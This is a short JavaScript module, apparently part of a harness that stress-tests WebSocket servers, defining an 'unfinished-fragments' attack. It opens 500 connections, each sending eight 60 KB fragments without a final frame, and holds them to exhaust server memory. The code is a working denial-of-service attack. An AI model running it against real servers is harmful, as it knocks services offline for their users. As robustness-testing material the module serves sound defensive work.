import { sleep } from '../lib/time.mjs'
import { CONTINUATION, frame, many, TEXT, webSocket } from '../lib/wire.mjs'

/** @type {import('./index.mjs').Attack} */
export const attack = {
  row: 'b',
  name: 'unfinished-fragments',
  what: '500 clients send messages of 8 fragments of 60 KB, and not the last one',
  async attack(place) {
    const began = Date.now()
    const fragment = Buffer.alloc(60_000, 'x')
    await many(500, async (index) => {
      const socket = await webSocket(place, { index })
      for (let i = 0; i < 8; i++) socket.write(frame(fragment, i === 0 ? TEXT : CONTINUATION, false))
    })
    await sleep(place.seconds * 1_000 - (Date.now() - began))
  },
}
